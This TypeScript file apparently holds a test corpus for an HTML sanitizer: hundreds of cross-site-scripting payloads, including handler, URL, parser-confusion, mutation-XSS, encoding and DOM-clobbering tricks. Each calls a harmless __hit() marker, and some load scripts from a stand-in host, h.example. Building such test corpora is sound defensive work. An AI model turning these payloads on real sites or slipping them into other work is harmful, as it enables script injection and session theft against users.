export interface Payload {
  readonly name: string;
  readonly html: string;
}

/** What every payload tries to call; the pages that load them tell when it was called. */
const hit = "__hit()";

function named(group: string, payloads: readonly string[]): readonly Payload[] {
  return payloads.map((html, index) => ({ name: `${group} ${index + 1}`, html }));
}

const handlerNames = (
  "abort afterprint animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput beforematch " +
  "beforepaste beforetoggle blur canplay change click command contentvisibilityautostatechange contextmenu copy cut dblclick " +
  "drag dragend dragenter drop error focus focusin formdata fullscreenchange gotpointercapture hashchange input invalid keydown " +
  "keyup load loadstart message mousedown mouseenter mouseover mousewheel pageshow paste pointerdown pointerenter " +
  "pointerrawupdate popstate reset resize scroll scrollend scrollsnapchange search securitypolicyviolation select " +
  "selectionchange selectstart slotchange submit toggle touchstart transitionend transitionrun unhandledrejection unload wheel"
).split(" ");

/** Handlers in every way an attribute may be written, on elements that we keep and on ones that we do not. */
const handlers = handlerNames.map((name, index) => {
  const ways = [
    `<p on${name}="${hit}" tabindex=0>on${name}</p>`,
    `<img src=x ON${name.toUpperCase()}=${hit} alt=on${name}>`,
    `<details open on${name}='${hit}'><summary on${name}=${hit}>on${name}</summary>x</details>`,
    `<a href="https://a.example/"\non${name}\n=\n"${hit}">on${name}</a>`,
    `<svg/on${name}=${hit}><rect on${name}=${hit} /></svg>`,
  ];
  return { name: `on${name}`, html: ways[index % ways.length] ?? "" };
});

const hostileUrls = [
  `javascript:${hit}`,
  `JaVaScRiPt:${hit}`,
  `  javascript:${hit}`,
  `java&Tab;script:${hit}`,
  `java&NewLine;script:${hit}`,
  `&#1;javascript:${hit}`,
  `javascript&colon;${hit}`,
  `&#x6A;&#x61;vascript:${hit}`,
  `&#0000106avascript:${hit}`,
  `javascript://a.example/%0A${hit}`,
  `vbscript:${hit}`,
  `data:text/html,<script>parent.${hit}</script>`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${hit}'/>`,
  `blob:https://a.example/${hit}`,
  `view-source:javascript:${hit}`,
  `feed:javascript:${hit}`,
];

const placesOfUrls: readonly ((url: string) => string)[] = [
  (url) => `<a href="${url}">link</a>`,
  (url) => `<a href="https://a.example/" ping="${url}" target="_self">ping</a>`,
  (url) => `<img src="${url}" srcset="${url} 2x" longdesc="${url}" lowsrc="${url}" dynsrc="${url}" usemap="${url}">`,
  (url) => `<video src="${url}" poster="${url}" autoplay><source src="${url}"></video>`,
  (url) => `<iframe src="${url}"></iframe><embed src="${url}"><object data="${url}" codebase="${url}"></object>`,
  (url) =>
    `<form action="${url}"><button formaction="${url}" autofocus>go</button><input type=image src="${url}"></form>`,
  (url) => `<blockquote cite="${url}"><q cite="${url}">q</q><ins cite="${url}">i</ins></blockquote>`,
  (url) =>
    `<map name=m><area href="${url}"></map><img usemap=#m src=x><table background="${url}"><td background="${url}">`,
  (url) =>
    `<svg><a xlink:href="${url}" href="${url}"><text y=9>x</text></a><use href="${url}"/><image href="${url}"/></svg>`,
  (url) =>
    `<math href="${url}"><mi xlink:href="${url}">x</mi><maction actiontype="statusline#${url}">y</maction></math>`,
  (url) => `<img data-src="${url}" alt=lazy><iframe data-src="${url}"></iframe>`,
];

const urls = hostileUrls.flatMap((url, index) => {
  const places = [placesOfUrls[0], placesOfUrls[1 + (index % (placesOfUrls.length - 1))]];
  return places.map((place, which) => ({ name: `URL ${url}, place ${which + 1}`, html: place?.(url) ?? "" }));
});

const scripts = named("script", [
  `<script>${hit}</script>`,
  `<SCRIPT\n>${hit}</SCRIPT\n>`,
  `<script src="data:text/javascript,${hit}"></script>`,
  `<script type=module>${hit}</script>`,
  `<scr<script>ipt>${hit}</scr</script>ipt>`,
  `<script/xss src=//h.example/x.js></script>`,
  `<<script>${hit}//<</script>`,
  `<svg><script>${hit}</script></svg>`,
  `<svg><script href="data:,${hit}"/></svg>`,
  `<script>/*`,
  `<script><!--<script></script>--></script><img src=x onerror=${hit}>`,
  `<link rel=import href="data:text/html,<script>${hit}</script>"><link rel=preload as=script href=//h.example/p.js>`,
]);

const documents = named("document", [
  `<base href="javascript:/a/-${hit}//"><a href="#x">base</a>`,
  `<base href="https://h.example/"><img src=relative.png><a href=relative>r</a>`,
  `<meta http-equiv=refresh content="0;url=javascript:${hit}">`,
  `<meta http-equiv=refresh content="0;url=https://h.example/gone">`,
  `<meta http-equiv="Set-Cookie" content="a=b"><meta name=referrer content=unsafe-url>`,
  `<iframe srcdoc="<script>parent.${hit}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.${hit}&gt;" src="https://h.example/f"></iframe>`,
  `<frameset onload=${hit}><frame src="javascript:parent.${hit}"></frameset>`,
  `<body onload=${hit} onpageshow=${hit} background="javascript:${hit}"><html onmouseover=${hit}>`,
  `<object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19oaXQoKTwvc2NyaXB0Pg=="></object>`,
  `<object type="text/html" data="https://h.example/o"><param name=src value="javascript:${hit}"></object>`,
  `<embed code="https://h.example/e.swf" allowscriptaccess=always src="//h.example/e.swf">`,
  `<applet code="javascript:${hit}"></applet><portal src="https://h.example/p" onload=${hit}></portal>`,
  `<link rel=stylesheet href="https://h.example/s.css"><link rel=prefetch href="https://h.example/p">`,
  `<link rel=stylesheet href="data:text/css,body{background:url(https://h.example/b)}" onload=${hit}>`,
  `<fencedframe src="https://h.example/f"></fencedframe><webview src="https://h.example/w"></webview>`,
  `<dialog open onclose=${hit}><form method=dialog><button autofocus onfocus=${hit}>x</button></form></dialog>`,
  `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["https://h.example/sp"]}]}</script>`,
  `<script type=importmap>{"imports":{"a":"https://h.example/im.js"}}</script><script type=module>import "a"</script>`,
]);

const styles = named("style", [
  `<style>@import "https://h.example/i.css"; body{background:url(https://h.example/b.png)}</style>`,
  `<p style="background:url(https://h.example/b.png)">x</p>`,
  `<p style="background:url('javascript:${hit}');width:expression(${hit})">x</p>`,
  `<style>@keyframes k{from{color:red}}</style><p style="animation:k 1ms" onanimationstart=${hit} onanimationend=${hit}>x</p>`,
  `<p style="transition:color 1ms" tabindex=1 id=x ontransitionend=${hit}>x</p><style>:target{color:red}</style>`,
  `<style><img src="</style><img src=x onerror=${hit}>">`,
  `<svg><style><![CDATA[</style><img src=x onerror=${hit}>]]></style></svg>`,
  `<p style="content-visibility:auto" oncontentvisibilityautostatechange=${hit}>x</p>`,
  `<div style="position:fixed;inset:0;z-index:9"><a href="javascript:${hit}">all</a></div>`,
  `<style>@font-face{font-family:a;src:url(https://h.example/f.woff)}p{font-family:a}</style><p>f</p>`,
]);

const foreign = named("foreign content", [
  `<svg></p><style><a id="</style><img src=1 onerror=${hit}>">`,
  `<svg><p><style><a title="</style><img src onerror=${hit}>"></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${hit}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${hit}>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${hit}</script>"></iframe></foreignObject></svg>`,
  `<svg><foreignObject><p><svg><desc><style><a title="</style><img src=x onerror=${hit}>"></desc></svg></p></foreignObject></svg>`,
  `<svg><desc><noscript><p title="</noscript><img src=x onerror=${hit}>"></desc></svg>`,
  `<svg><title><a title="</title><img src=x onerror=${hit}>"></svg>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${hit}></style></annotation-xml></math>`,
  `<math><annotation-xml encoding="text/html"><svg><style></annotation-xml><img src=x onerror=${hit}>`,
  `<svg><animate onbegin=${hit} attributeName=x dur=1s /><set onend=${hit} dur=1ms /></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${hit}" /><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${hit}'/></svg>#x"/></svg>`,
  `<svg><image href="https://h.example/i.png"/><feImage href="https://h.example/f.png"/></svg>`,
  `<math><mi><svg><mi><style><a title="</style><img src=x onerror=${hit}>"></math>`,
  `<svg><font color=red><p><img src=x onerror=${hit}></font></svg>`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror=${hit}>"></style></h1>`,
  `<table><svg><style><table><a title="</style><img src=x onerror=${hit}>">`,
]);

const rawText = named("raw text", [
  `<noscript><p title="</noscript><img src=x onerror=${hit}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${hit}>">`,
  `<xmp>&lt;/pre&gt;&lt;img src=x onerror=${hit}&gt;</xmp>`,
  `<plaintext><img src=x onerror=${hit}>`,
  `<p><plaintext></plaintext><script>${hit}</script>`,
  `<textarea><p title="</textarea><img src=x onerror=${hit}>"></textarea>`,
  `<title><p title="</title><img src=x onerror=${hit}>"></title>`,
  `<noembed><p title="</noembed><img src=x onerror=${hit}>"></noembed>`,
  `<noframes><p title="</noframes><img src=x onerror=${hit}>"></noframes>`,
  `<iframe><p title="</iframe><img src=x onerror=${hit}>"></iframe>`,
  `<listing>&lt;img src=x onerror=${hit}&gt;</listing>`,
  `<template><img src=x onerror=${hit}><script>${hit}</script></template>`,
  `<div><template shadowrootmode=open><img src=x onerror=${hit}></template></div>`,
  `<select><template><img src=x onerror=${hit}></select><img src=x onerror=${hit}>`,
  `<select><option><style></option></select><img src=x onerror=${hit}></style>`,
  `<selectedcontent><img src=x onerror=${hit}></selectedcontent><select><button><selectedcontent></button><option><img src=x onerror=${hit}>`,
  `<pre>\n\n\n<textarea>\n</pre><img src=x onerror=${hit}>`,
]);

const comments = named("comment", [
  `<!--><img src=x onerror=${hit}>-->`,
  `<!---><img src=x onerror=${hit}>-->`,
  `<!-- --!><img src=x onerror=${hit}> -->`,
  `<!--<!--><img src=x onerror=${hit}>-->`,
  `<![CDATA[><img src=x onerror=${hit}>]]>`,
  `<svg><![CDATA[</svg><img src=x onerror=${hit}>]]>`,
  `<!doctype html [<!ENTITY x "<img src=x onerror=${hit}>">]>&x;`,
  `<?xml version="1.0"><img src=x onerror=${hit}>?>`,
  `<?xml-stylesheet href="javascript:${hit}"?><p>x`,
  `</ title="><img src=x onerror=${hit}>">`,
  `<% x="><img src=x onerror=${hit}>" %>`,
  `<!--[if IE]><script>${hit}</script><![endif]--><!--[if true]><img src=x onerror=${hit}><![endif]-->`,
]);

const quoting = named("quoting", [
  `<img src="x" alt="&quot; onerror=${hit} x=&quot;">`,
  `<img src=x alt="\`onerror=${hit}\`">`,
  `<img src="x\` \`<script>${hit}</script>"\` \`>`,
  `<a title="&lt;/a&gt;&lt;img src=x onerror=${hit}&gt;" href="https://a.example/">x</a>`,
  `<img src=x alt="--><img src=x onerror=${hit}>">`,
  `<p title="\u00a0&nbsp;&amp;lt;script&amp;gt;${hit}">x</p>`,
  `<img/src='x'/onerror=${hit}//>`,
  `<img src=x\u000conerror=${hit}>`,
  `<img src=x onerror\u0000=${hit}><\u0000script>${hit}</script>`,
  `<img """><script>${hit}</script>">`,
  `<img src=x:x onerror\n=\n${hit} <p>`,
  `<img src=x onerror="&#95;&#95;hit&lpar;&rpar;">`,
  `<p lang='"><img src=x onerror=${hit}>' dir="\u202e'><script>${hit}</script>">x</p>`,
  `<a href="https://a.example/&quot;onmouseover=${hit}//">x</a>`,
  `<a href='https://a.example/?q="><script>${hit}</script>'>x</a>`,
  `<a href="https://a.example/#:~:text=x&quot;&gt;&lt;img src=x onerror=${hit}&gt;">x</a>`,
  `&lt;img src=x onerror=${hit}&gt; &amp;lt;script&amp;gt;${hit}&amp;lt;/script&amp;gt;`,
  `\uff1cscript\uff1e${hit}\uff1c/script\uff1e \u2039img src=x onerror=${hit}\u203a`,
  `+ADw-script+AD4-${hit}+ADw-/script+AD4-`,
  `<\u017fcript>${hit}</\u017fcript><\u0130mg src=x onerror=${hit}><img \u212aey=x src=x onerror=${hit}>`,
  `<img src=x o\u00adnerror=${hit} onerror\u200b=${hit} \ufeffonerror=${hit}>`,
  `\ud800<img src=x onerror=${hit}>\udc00`,
  `<x-y onclick=${hit} tabindex=1 autofocus onfocus=${hit}>custom</x-y><p is="x-y" onfocus=${hit} tabindex=0>is</p>`,
]);

const structure = named("structure", [
  `<p>a<button><p>b</p><img src=x onerror=${hit}></button></p>`,
  `<a href="https://a.example/">1<table><a href="javascript:${hit}">2</table></a>`,
  `<table><caption><svg><desc><table><tr><td><img src=x onerror=${hit}>`,
  `<table><tr><script>${hit}</script><td></table><td onclick=${hit}>`,
  `<b><p><i></b><a href="javascript:${hit}">x</i></p></a>`,
  `<div></div></div></div></body></html><script>${hit}</script>`,
  `<ruby><rt><rp><img src=x onerror=${hit}></ruby>`,
  `<img srcset="https://h.example/1.png 1x, javascript:${hit} 2x" sizes=1px onload=${hit}>`,
  `<picture><source srcset="https://h.example/p.png" onerror=${hit}><img src=x onerror=${hit}></picture>`,
  `<audio src=x autoplay onerror=${hit}><track src="https://h.example/t.vtt" default onload=${hit}></audio>`,
  `<video><source onerror=${hit} src=x><script>${hit}</script></video>`,
  `<input autofocus onfocus=${hit}><textarea autofocus onfocus=${hit}></textarea><select autofocus onfocus=${hit}></select>`,
  `<p contenteditable autofocus onfocus=${hit} accesskey=x>edit</p>`,
  `<input type=hidden oncontentvisibilityautostatechange=${hit} style=content-visibility:auto>`,
  `<div popover id=pop onbeforetoggle=${hit}>p</div><button popovertarget=pop onclick=${hit} commandfor=pop command=show-popover>b</button>`,
  `<details ontoggle=${hit} open name=d><p hidden=until-found onbeforematch=${hit}>needle</p></details>`,
  `<marquee onstart=${hit} onbounce=${hit} onfinish=${hit} loop=1>x</marquee><bgsound src="javascript:${hit}">`,
  `<keygen autofocus onfocus=${hit}><isindex action="javascript:${hit}" type=submit>`,
  `<form id=f action="https://h.example/f"><input name=q></form><button form=f formaction="javascript:${hit}">s</button>`,
  `<a href="https://a.example/" attributionsrc="https://h.example/at" ping="https://h.example/ping" download>x</a>`,
  `<img src=x attributionsrc="https://h.example/at" crossorigin referrerpolicy=unsafe-url onerror=${hit}>`,
]);

const clobbering = named("clobbering", [
  `<form id=document><input name=cookie><input name=body></form>`,
  `<img name=currentScript><img name=getElementById><img name=querySelector><img name=body><img name=cookie>`,
  `<a id=__hit></a><a id=__hit name=x href="javascript:1"></a>`,
  `<form name=attributes><input name=attributes><input id=childNodes name=parentNode></form>`,
  `<form onsubmit=${hit}><input name=nodeName><input name=tagName><input name=removeChild></form>`,
  `<iframe name=self srcdoc="<a id=x>"></iframe><object id=top></object><embed name=parent>`,
  `<a id=location href="javascript:${hit}">l</a><p id=after name=after>after</p>`,
  `<p id="__proto__" name="constructor">x</p><img id=defaultView name=implementation>`,
]);

/** HTML that runs, loads, leads away or overwrites something in a page that is not protected from it. */
export const payloads: readonly Payload[] = [
  ...handlers,
  ...urls,
  ...scripts,
  ...documents,
  ...styles,
  ...foreign,
  ...rawText,
  ...comments,
  ...quoting,
  ...structure,
  ...clobbering,
];
